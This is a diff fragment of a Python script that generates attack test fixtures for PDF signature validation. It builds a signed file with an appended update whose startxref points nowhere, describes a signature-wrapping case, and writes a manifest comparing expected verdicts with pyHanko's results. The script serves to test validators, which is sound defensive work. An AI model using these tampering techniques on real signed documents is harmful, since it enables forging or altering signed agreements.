+        "Signature wrapping (SWA): the uncovered gap of the ByteRange is widened to hold attacker objects beside "
+        "/Contents, then an update re-uses them", "pdf/siwa")
+
+    # ---- incremental update with a broken xref (startxref points nowhere) ----
+    broken = bytearray(signed)
+    broken += b"4 0 obj\n" + page_content_new + b"\nendobj\nstartxref\n999999\n%%EOF\n"
+    add("update-broken-xref.pdf", "flag-modified-after-signing", bytes(broken),
+        "An update after signing whose startxref points nowhere (missing xref): not a proper revision, must not "
+        "be repaired into acceptance")
+
+    # ---- write ----
+    rows = ["file\tsource_repo\tpath_in_repo\tcommit\tlicence\tformat\texpected_verdict\twhy\tpyhanko_verdict\t"
+            "pdfsig_verdict\tother_peer_verdict\tsha256\tsize"]
+    for name, verdict, data, why, fmt in FIXTURES:
+        with open(os.path.join(OUT, name), "wb") as f:
+            f.write(data)
+        rows.append("\t".join([name, "kyso", "scripts/gen-attack-fixtures.py", "", "Apache-2.0 OR MIT", fmt, verdict,
+                               why, pyhanko_verdict(data), "", "", hashlib.sha256(data).hexdigest(), str(len(data))]))
+    with open(os.path.join(OUT, "MANIFEST.tsv"), "w", encoding="utf-8") as f:
+        f.write("\n".join(rows) + "\n")
+    print(f"wrote {len(FIXTURES)} fixtures to {OUT}")
+
+
+def pyhanko_verdict(data: bytes) -> str:
+    """pyHanko's own difference analysis per signature (trust not checked), for the peer column."""
+    from pyhanko.sign.validation import validate_pdf_signature
+    from pyhanko_certvalidator import ValidationContext
+
+    try:
+        r = PdfFileReader(io.BytesIO(data), strict=False)
+        out = []
+        for s in r.embedded_regular_signatures:
+            try:
+                st = validate_pdf_signature(s, ValidationContext(allow_fetching=False))
+                mods = st.modification_level.name if st.modification_level is not None else "?"
+                ok = "docmdp-ok" if st.docmdp_ok else "docmdp-BAD"
+                out.append(f"{s.field_name}: intact={st.intact} {ok} mods={mods} coverage={st.coverage.name}")
+            except Exception as e:  # noqa: BLE001 - record what pyHanko says
+                out.append(f"{s.field_name}: ERROR {type(e).__name__}: {str(e)[:80]}")
+        return " | ".join(out) or "no signatures"
+    except Exception as e:  # noqa: BLE001
+        return f"ERROR {type(e).__name__}: {str(e)[:80]}"
+
+
+if __name__ == "__main__":
+    sys.exit(main())
